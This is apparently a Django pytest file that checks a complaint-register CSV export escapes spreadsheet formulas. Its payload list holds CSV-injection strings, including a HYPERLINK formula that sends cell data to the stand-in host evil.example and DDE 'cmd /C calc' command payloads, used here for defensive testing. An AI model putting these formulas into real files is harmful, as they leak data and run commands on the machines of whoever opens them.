"""A text someone typed (a course name) reaches the CSV export as text, never as a formula."""

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone

from klachtroute.cases.services import complaint_register
from klachtroute.testing.factories import CourseFactory, complaint_data

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_neutralises_every_formula_a_person_typed(organisation, director):
    for payload in PAYLOADS:
        complaint_register(**complaint_data(course=CourseFactory(name=payload)))
    year = timezone.localdate().year
    client = Client()
    client.force_login(director)
    response = client.get("/jaarverslag/csv/", {"start": f"{year}-01-01", "end": f"{year}-12-31"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells
    # No cell at all starts the way a spreadsheet starts a formula.
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Numbers stay numbers.
    assert ["Totaal", "Ontvangen klachten", str(len(PAYLOADS))] in rows


def test_ordinary_texts_are_left_as_typed():
    from klachtroute.reports.exports import csv_text

    assert csv_text("Basisopleiding vertrouwenspersoon") == "Basisopleiding vertrouwenspersoon"
    assert csv_text("e-mail") == "e-mail"
